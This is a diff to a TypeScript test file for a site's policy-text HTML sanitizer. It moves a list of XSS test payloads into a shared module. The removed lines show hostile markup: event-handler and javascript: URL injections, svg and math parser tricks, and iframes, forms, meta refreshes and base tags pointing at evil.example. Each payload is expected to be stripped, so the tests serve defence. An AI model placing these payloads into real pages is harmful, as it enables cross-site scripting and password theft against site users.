@@ -9,10 +9,11 @@ import { defaultPolicies } from '#content/policies-defaults.ts';
 import { type ErrorCode, messageFor } from '#shared/messages/ko.ts';
 import { versionConflictText } from '#shared/messages/site.ts';
 import type { PoliciesContent } from '#shared/schemas/site-policies.ts';
+import { HOSTILE_MARKUP } from '../../rich-text/hostile-markup.ts';
+import { countStatuses } from '../../testing/count-statuses.ts';
 import { type SignedIn, signIn } from '../../testing/sign-in.ts';
 import { createTestApp, type TestApp } from '../../testing/test-app.ts';
 import { sanitizePolicy } from './policies-section.ts';
-import { countStatuses } from './site-test-helpers.ts';
 
 const headersOf = (who: SignedIn | null) => (who ? { cookie: who.cookie } : {});
 const api = {
@@ -54,27 +55,7 @@ const payloads: [string, string][] = [
     '<h3 style="text-align:center">소제목</h3>',
   ],
   ['<h4 style="color:red">작은 제목</h4>', '<h3>작은 제목</h3>'],
-  ['<body onload=alert(1)>', ''],
-  ['<svg onload=alert(1)><circle r="10"/></svg>', ''],
-  ['<svg><script>alert(1)</script></svg>', ''],
-  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
-  ['<iframe src="https://evil.example"></iframe>', ''],
-  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
-  ['<object data="javascript:alert(1)"></object>', ''],
-  ['<embed src="https://evil.example/x.swf">', ''],
-  ['<form action="https://evil.example"><input name="pw"><button>보내기</button></form>', '보내기'],
-  ['<input onfocus=alert(1) autofocus>', ''],
-  ['<textarea onfocus=alert(1) autofocus></textarea>', ''],
-  ['<details open ontoggle=alert(1)>', ''],
-  ['<video><source onerror=alert(1)></video>', ''],
-  ['<audio src=x onerror=alert(1)>', ''],
-  ['<style>body{background:url(javascript:alert(1))}</style>', ''],
-  ['<link rel="stylesheet" href="https://evil.example/x.css">', ''],
-  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
-  ['<base href="https://evil.example/">', ''],
-  ['<p style="background-image:url(javascript:alert(1))">x</p>', '<p>x</p>'],
-  ['<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>', '<p>cover</p>'],
-  ['<span style="font-size:expression(alert(1))">x</span>', '<span>x</span>'],
+  ...HOSTILE_MARKUP,
   // An id of its own would clash with the addresses the page gives its articles.
   [
     '<h2 style="text-align:center;behavior:url(x.htc)" id="article-1" class="x">제1조</h2>',
